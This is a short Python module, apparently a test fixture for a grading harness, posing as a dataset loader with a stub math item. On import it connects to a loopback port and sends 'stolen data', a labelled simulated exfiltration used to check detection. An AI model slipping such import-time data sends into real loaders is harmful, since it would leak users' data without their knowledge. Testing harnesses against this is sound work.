"""Hostile: phones home at import time. The test listens on the grader machine's loopback."""

import socket
from pathlib import Path

PORT = int((Path(__file__).parent / "port.txt").read_text())
socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(b"stolen data")

CHAT_TEMPLATE = "{{ messages[0]['content'] }}"


def load_split(split, path):
    return [{"problem": "What is 1 + 1?", "solution": " 2"}]
